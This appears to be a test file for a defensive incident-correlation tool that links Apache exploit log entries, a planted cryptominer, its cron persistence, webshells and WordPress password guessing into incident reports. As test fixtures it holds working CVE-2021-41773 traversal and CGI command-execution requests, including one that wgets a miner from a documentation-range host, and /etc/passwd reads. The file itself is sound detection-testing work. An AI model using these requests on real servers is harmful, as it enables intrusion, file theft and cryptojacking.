import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { guessedLogins } from "../../src/checks/logs/behaviour.ts";
import type { CheckContext } from "../../src/core/context.ts";
import type { Finding } from "../../src/core/finding.ts";
import { actionOfRequest } from "../../src/correlate/attribution.ts";
import { correlate as correlateKeyed } from "../../src/correlate/index.ts";
import { translator } from "../../src/i18n/index.ts";
import { renderIncident } from "../../src/report/localize.ts";
import { auditJson, fixtureRoot } from "../helpers/audit.ts";
import { checkCtx } from "../helpers/messages.ts";
import { tempDir } from "../helpers/tmp.ts";
import { f, minerStory, T0 } from "./scenario.ts";

const ctx = checkCtx(() => new Date("2026-11-21T00:00:00Z"));
/** Incidents as the reader sees them, in the context's language. */
const correlate = (fs: Finding[], c: CheckContext) =>
  correlateKeyed(fs, c).map((i) => renderIncident(i, translator(c.lang)));

test("exploit, miner, its pool connection and its cron entry become one confirmed incident", () => {
  const incidents = correlate(minerStory(), ctx);
  assert.equal(incidents.length, 1);
  const inc = incidents[0];
  assert.ok(inc);
  assert.deepEqual([...inc.findingIds].sort(), [
    "apache.cve:1",
    "logs.exploit:1",
    "network.pool:1",
    "persistence.cron:1",
    "process.miner:1",
  ]);
  assert.equal(inc.confidence, "confirmed");
  assert.equal(inc.severity, "critical");
  assert.deepEqual(inc.attackers, ["203.0.113.5"]);
  assert.equal(inc.entryPoint?.installation, "/usr/local/apache2");
  assert.equal(inc.startedAt, T0);
  assert.deepEqual(inc.sources, ["files", "logs", "network", "processes"]);
  assert.equal(
    inc.summary,
    "Your Apache 2.4.49 at /usr/local/apache2 was exploited at 2026-11-20 03:14:07 UTC from 203.0.113.5 " +
      "(access_log line 18842). Their requests ran commands on the server and name what is on it now: " +
      "http://198.51.100.7/kdevtmpfsi, /tmp/kdevtmpfsi, 198.51.100.7. 2 seconds later /tmp/kdevtmpfsi started as daemon. " +
      "It connected to pool.example (198.51.100.9:3333). It has used 1440 minutes of CPU time. " +
      "A persistence entry /var/spool/cron/crontabs/daemon:1 was written at 03:14:10.",
  );
  // Links say why: the cron line and the process name what the attacker's payload downloaded.
  const cron = inc.links?.find(
    (l) => [l.from, l.to].includes("persistence.cron:1") && [l.from, l.to].includes("logs.exploit:1"),
  );
  assert.ok(cron?.reasons.includes("indicator"), JSON.stringify(inc.links));
});

test("the timeline is in time order and says where each time came from", () => {
  const [inc] = correlate(minerStory(), ctx);
  assert.ok(inc);
  const times = inc.timeline.map((e) => e.time);
  assert.deepEqual(times, [...times].sort());
  assert.deepEqual(
    inc.timeline.map((e) => [e.time, e.timeSource, e.kind]),
    [
      ["2026-11-20T03:10:00.000Z", "log", "exploit"],
      ["2026-11-20T03:14:07.000Z", "log", "exploit"],
      ["2026-11-20T03:14:09.000Z", "proc", "process"],
      ["2026-11-20T03:14:10.000Z", "mtime", "persistence"],
    ],
  );
  assert.match(inc.timeline[1]?.source ?? "", /log: access_log line 18842/);
  assert.match(inc.timeline[2]?.source ?? "", /\/proc/);
});

test("findings outside the incident stay findings, and the id is stable across input order", () => {
  const a = correlate(minerStory(), ctx);
  const b = correlate([...minerStory()].reverse(), ctx);
  assert.equal(a[0]?.id, b[0]?.id);
  assert.match(a[0]?.id ?? "", /^incident:[0-9a-f]{16}$/);
  const ids = a.flatMap((i) => i.findingIds);
  for (const lone of ["logs.exploit:2", "exposure.port:1", "process.hidden:1"])
    assert.ok(!ids.includes(lone), lone);
});

test("one source alone is never an incident: a successful exploit and a vulnerable version", () => {
  const only = minerStory().filter((x) => x.check === "logs.exploit" || x.check === "apache.cve");
  assert.deepEqual(correlate(only, ctx), []);
});

test("time alone, a day later, as root, is too weak a link", () => {
  const fs = minerStory().filter((x) => x.id === "logs.exploit:1");
  fs.push(
    f({
      id: "process.cpu:9",
      check: "process.cpu",
      time: "2026-11-20T23:00:00.000Z",
      timeSource: "proc",
      data: { pid: 9, exe: "/usr/bin/updatedb", user: "root" },
    }),
  );
  assert.deepEqual(correlate(fs, ctx), []);
});

test("a process that started before the exploit is not explained by it", () => {
  const fs = minerStory().filter((x) => x.id === "logs.exploit:1");
  fs.push(
    f({
      id: "process.cpu:8",
      check: "process.cpu",
      time: "2026-11-20T03:00:00.000Z",
      timeSource: "proc",
      data: { pid: 8, exe: "/opt/app/worker", user: "www-data" },
    }),
  );
  assert.deepEqual(correlate(fs, ctx), []);
});

test("soon after a success as the web server user is enough for a confirmed incident even without indicators", () => {
  const fs = minerStory().filter((x) => x.id === "logs.exploit:1");
  fs.push(
    f({
      id: "process.cpu:7",
      check: "process.cpu",
      time: "2026-11-20T03:20:00.000Z",
      timeSource: "proc",
      data: { pid: 7, exe: "/var/tmp/.x/ld", user: "www-data" },
    }),
  );
  const [inc] = correlate(fs, ctx);
  assert.ok(inc);
  assert.equal(inc.confidence, "confirmed");
  assert.match(inc.summary, /6 minutes later \/var\/tmp\/\.x\/ld started as www-data/);
});

test("without logs, a miner and the cron line that starts it are still one incident", () => {
  const fs = minerStory().filter((x) => ["process.miner:1", "persistence.cron:1"].includes(x.id));
  // The cron line names the binary the process runs.
  const cron = fs.find((x) => x.id === "persistence.cron:1");
  if (cron?.evidence[0]) cron.evidence[0].value = "@reboot /tmp/kdevtmpfsi";
  const [inc] = correlate(fs, ctx);
  assert.ok(inc);
  assert.equal(inc.attackers, undefined);
  assert.equal(inc.confidence, "likely");
  assert.match(inc.title, /Malicious activity on this server: \/tmp\/kdevtmpfsi/);
});

test("the story is told in Japanese too", () => {
  const [inc] = correlate(minerStory(), { ...ctx, lang: "ja" });
  assert.ok(inc);
  assert.match(
    inc.summary,
    /\/usr\/local\/apache2 の Apache 2\.4\.49 が 2026-11-20 03:14:07 UTC に 203\.0\.113\.5 から攻撃され/,
  );
  assert.match(inc.summary, /その 2 秒後、\/tmp\/kdevtmpfsi がユーザー daemon として起動しました。/);
});

test("names match as whole words: a payload naming /tmp/job1 does not explain /tmp/job12", () => {
  const exploit = minerStory().find((x) => x.id === "logs.exploit:1");
  assert.ok(exploit?.data);
  exploit.data.indicators = { urls: [], ips: [], files: ["/tmp/job1"] };
  exploit.data.successTimes = [];
  exploit.data.outcome = "unknown";
  const proc = (id: string, exe: string) =>
    f({
      id,
      check: "process.cpu",
      time: "2026-11-20T05:00:00.000Z",
      timeSource: "proc",
      data: { pid: 1, exe, user: "root" },
    });
  assert.deepEqual(correlate([exploit, proc("process.cpu:12", "/tmp/job12")], ctx), []);
  const [inc] = correlate([exploit, proc("process.cpu:1", "/tmp/job1")], ctx);
  assert.ok(inc);
  // Only an attempt in the log, but its payload names the program now running.
  assert.equal(inc.confidence, "likely");
  assert.match(inc.summary, /the log alone does not show that they succeeded/);
});

test("a file whose mtime was set back is still linked by its ctime", () => {
  const fs = minerStory().filter((x) => x.id === "logs.exploit:1");
  fs.push(
    f({
      id: "file.webshell:1",
      check: "file.webshell",
      time: "2019-01-01T00:00:00.000Z",
      timeSource: "mtime",
      data: { path: "/var/www/html/.cache.php", user: "www-data", ctime: "2026-11-20T03:14:20.000Z" },
    }),
  );
  const [inc] = correlate(fs, ctx);
  assert.ok(inc, "timestomped file not linked");
  assert.ok(inc.links?.[0]?.reasons.includes("ctime"));
  assert.match(
    inc.summary,
    /\.cache\.php was changed at 03:14:20, though its modification time claims 2019-01-01 00:00:00 UTC/,
  );
  assert.ok(inc.timeline.some((e) => e.timeSource === "ctime" && e.time === "2026-11-20T03:14:20.000Z"));
});

test("a request is judged by what it reached: a shell ran commands, a traversal to a file read it", () => {
  const cases: Array<[string, string]> = [
    ["POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "ran"],
    ["GET /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/bash?x HTTP/1.1", "ran"],
    ["GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "read"],
    ["GET /icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/hostname HTTP/1.0", "read"],
    ["GET /index.php?s=index/think\\app/invokefunction HTTP/1.1", "exploited"],
    ["End of script output before headers: sh", "ran"],
    ["End of script output before headers: passwd", "exploited"],
  ];
  for (const [request, action] of cases) assert.equal(actionOfRequest(request), action, request);
});

test("an attacker who only read files is never named as the one who broke in", () => {
  const reader = f({
    id: "logs.exploit:7",
    check: "logs.exploit",
    severity: "critical",
    cves: ["CVE-2021-41773"],
    time: "2026-11-20T03:05:31.000Z",
    timeSource: "log",
    evidence: [
      {
        path: "/usr/local/apache2/logs/access_log",
        line: 6,
        time: "2026-11-20T03:05:31.000Z",
        value: "GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1",
      },
    ],
    data: {
      ip: "45.146.164.110",
      attack: "cve-2021-41773",
      outcome: "succeeded",
      successTimes: ["2026-11-20T03:05:31.000Z"],
      indicators: { urls: [], ips: [], files: [] },
    },
  });
  const dropped = f({
    id: "file.suspicious:1",
    check: "file.suspicious",
    time: "2026-11-20T03:14:08.000Z",
    timeSource: "mtime",
    data: { path: "/tmp/kdevtmpfsi", user: "daemon" },
  });
  const [inc] = correlate([reader, dropped], ctx);
  assert.ok(inc, "the read and the file still make one incident (time)");
  assert.doesNotMatch(inc.title, /45\.146\.164\.110/);
  assert.match(inc.title, /Malicious activity on this server: \/tmp\/kdevtmpfsi/);
  assert.deepEqual(inc.attackerRoles, [{ ip: "45.146.164.110", role: "read" }]);
  assert.match(inc.summary, /45\.146\.164\.110 also got in at .* but only read files \(\/etc\/passwd\)/);
  // A read runs nothing as the web server user: time alone links it, no more.
  assert.ok(!inc.links?.some((l) => l.reasons.includes("web-user")), JSON.stringify(inc.links));
});

test("an attacker who read files through the same hole stays in the incident when the planting came weeks later", () => {
  const exploit = (id: string, ip: string, time: string, value: string, files: string[]) =>
    f({
      id,
      check: "logs.exploit",
      severity: "critical",
      cves: ["CVE-2021-41773"],
      time,
      timeSource: "log",
      evidence: [{ path: "/usr/local/apache2/logs/access_log", line: 6, time, value }],
      data: {
        ip,
        attack: "cve-2021-41773",
        outcome: "succeeded",
        successTimes: [time],
        indicators: { urls: files.map((x) => `http://198.51.100.7/${x}`), ips: [], files },
      },
    });
  const reader = exploit(
    "logs.exploit:1",
    "45.146.164.110",
    "2026-11-20T03:05:31.000Z",
    "GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1",
    [],
  );
  const planter = exploit(
    "logs.exploit:2",
    "203.0.113.5",
    "2026-11-20T03:14:07.000Z",
    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh?-c+wget%20http://198.51.100.7/kdevtmpfsi HTTP/1.1",
    ["kdevtmpfsi"],
  );
  const other = f({
    id: "logs.exploit:3",
    check: "logs.exploit",
    severity: "critical",
    cves: ["CVE-2017-9798"],
    time: "2026-11-20T03:06:00.000Z",
    timeSource: "log",
    data: {
      ip: "192.0.2.99",
      attack: "optionsbleed",
      outcome: "succeeded",
      successTimes: ["2026-11-20T03:06:00.000Z"],
    },
  });
  const dropped = f({
    id: "file.suspicious:1",
    check: "file.suspicious",
    time: "2026-12-04T10:00:00.000Z",
    timeSource: "mtime",
    data: { path: "/tmp/kdevtmpfsi", user: "daemon" },
  });
  const incidents = correlate([reader, planter, other, dropped], ctx);
  assert.equal(incidents.length, 1);
  const inc = incidents[0];
  assert.ok(inc);
  assert.deepEqual(inc.attackerRoles, [
    { ip: "203.0.113.5", role: "planted" },
    { ip: "45.146.164.110", role: "read" },
  ]);
  // Another hole's success is its own story, not this break-in's.
  assert.ok(!inc.findingIds.includes("logs.exploit:3"));
});

/** The compromised fixture root with the planted files' times set (git does not keep them). */
function compromisedRoot(t: { after: (fn: () => void) => void }): string {
  const root = path.join(tempDir(t), "root");
  fs.cpSync(fixtureRoot("compromised-2.4.49"), root, { recursive: true, verbatimSymlinks: true });
  const at = (rel: string, iso: string) => fs.utimesSync(path.join(root, rel), new Date(iso), new Date(iso));
  fs.chmodSync(path.join(root, "tmp/kdevtmpfsi"), 0o755);
  at("tmp/kdevtmpfsi", "2026-11-20T03:14:08Z");
  at("var/spool/cron/crontabs/daemon", "2026-11-20T03:14:09Z");
  return root;
}

test("roots/compromised-2.4.49: the incident names who ran commands and planted, the reader as a reader, with true line numbers", async (t) => {
  const root = compromisedRoot(t);
  const { doc } = await auditJson(root, ["--lang", "en"]);
  const incidents = doc.incidents;
  assert.equal(incidents.length, 1, JSON.stringify(incidents.map((i) => i.title)));
  const inc = incidents[0];
  assert.ok(inc);
  assert.equal(inc.title, "Break-in from 203.0.113.5: /tmp/kdevtmpfsi");
  assert.equal(inc.attackers?.[0], "203.0.113.5");
  assert.deepEqual(inc.attackerRoles, [
    { ip: "203.0.113.5", role: "planted" },
    { ip: "45.146.164.110", role: "read" },
  ]);
  // The failed scanner had no part in it.
  assert.ok(!inc.attackers?.includes("192.0.2.44"));
  assert.match(inc.summary, /from 203\.0\.113\.5 \(access_log line 10\)\. Their requests ran commands/);
  assert.match(inc.summary, /http:\/\/198\.51\.100\.7\/kdevtmpfsi/);
  assert.match(
    inc.summary,
    /45\.146\.164\.110 also got in at .*only read files \(\/etc\/passwd, \/etc\/os-release\)/,
  );
  assert.doesNotMatch(inc.summary, /path traversal and CGI RCE/i);
  // Every log line a timeline entry points at is the line of that address at that time.
  const logs = path.join(root, "usr/local/apache2/logs");
  const lines = (file: string) => fs.readFileSync(path.join(logs, file), "utf8").split("\n");
  let checked = 0;
  for (const e of inc.timeline.filter((x) => x.kind === "exploit")) {
    const m = /(access_log|error_log) line (\d+)/.exec(e.source);
    if (!m) continue;
    const line = lines(m[1] as string)[Number(m[2]) - 1] ?? "";
    const ip = /\d+\.\d+\.\d+\.\d+/.exec(e.text)?.[0] ?? "";
    assert.ok(line.includes(ip), `${e.source}: ${line} does not come from ${ip}`);
    const hms = e.time.slice(11, 19);
    assert.ok(line.includes(hms), `${e.source}: ${line} is not at ${hms}`);
    checked++;
  }
  assert.ok(checked >= 5, `only ${checked} timeline entries point at a line`);
  const reads = inc.timeline.filter((e) => e.text.startsWith("45.146.164.110 read "));
  assert.deepEqual(
    reads.map((e) => [e.text, e.source]),
    [
      ["45.146.164.110 read /etc/passwd (cve-2021-41773)", "log: access_log line 6"],
      ["45.146.164.110 read /etc/os-release (cve-2021-41773)", "log: access_log line 7"],
    ],
  );
  assert.ok(
    inc.timeline.some(
      (e) => e.source === "log: access_log line 10" && e.text.startsWith("203.0.113.5 ran commands"),
    ),
  );
});

test("a guessed WordPress password and the plugin file written after it are one break-in, told as a login, not as an Apache hole", () => {
  const logins = guessedLogins(
    [
      {
        ip: "198.51.100.90",
        scenario: "login-bruteforce",
        firstSeen: "2026-11-20T03:00:00.000Z",
        lastSeen: "2026-11-20T03:30:00.000Z",
        lines: 31,
        distinct: 1,
        quiet: 31,
        examples: [{ line: 1, time: "2026-11-20T03:00:00.000Z", target: "/wp-login.php", status: 200 }],
        won: { line: 31, time: "2026-11-20T03:30:00.000Z", target: "/wp-login.php", status: 302, after: 31 },
        file: "/var/log/apache2/access.log",
      },
    ],
    ctx,
  );
  const planted = f({
    id: "file.webshell:wp",
    check: "file.webshell",
    severity: "critical",
    time: "2026-11-20T03:34:00.000Z",
    timeSource: "mtime",
    data: { path: "/var/www/html/wp-content/plugins/hello/x.php", user: "www-data" },
  });
  // An Apache CVE that applies is no entry point of a login.
  const apache = f({
    id: "apache.cve:wp",
    check: "apache.cve",
    cves: ["CVE-2024-38475"],
    data: { installation: "/usr/sbin/apache2", version: "2.4.57" },
  });
  const [inc, more] = correlate([...logins, planted, apache], ctx);
  assert.ok(inc);
  assert.equal(more, undefined);
  assert.equal(inc.confidence, "confirmed");
  assert.deepEqual(inc.sources, ["files", "logs"]);
  assert.equal(inc.entryPoint, undefined);
  assert.deepEqual(inc.attackers, ["198.51.100.90"]);
  assert.equal(
    inc.summary,
    "A WordPress password was guessed at 2026-11-20 03:30:00 UTC from 198.51.100.90 (access.log line 31): " +
      "whoever logged in could install plugins, which run code on the server. " +
      "/var/www/html/wp-content/plugins/hello/x.php was written at 03:34:00.",
  );
  assert.deepEqual(
    inc.timeline.map((e) => [e.time, e.text]),
    [
      ["2026-11-20T03:00:00.000Z", "198.51.100.90 began password guessing on the WordPress login page"],
      [
        "2026-11-20T03:30:00.000Z",
        "198.51.100.90 was let in: the login page answered with the redirect a right password gets",
      ],
      ["2026-11-20T03:34:00.000Z", "/var/www/html/wp-content/plugins/hello/x.php written"],
    ],
  );
  const [ja] = correlate([...logins, planted, apache], { ...ctx, lang: "ja" });
  assert.match(ja?.summary ?? "", /198\.51\.100\.90 から WordPress のパスワードが当てられました/);
});
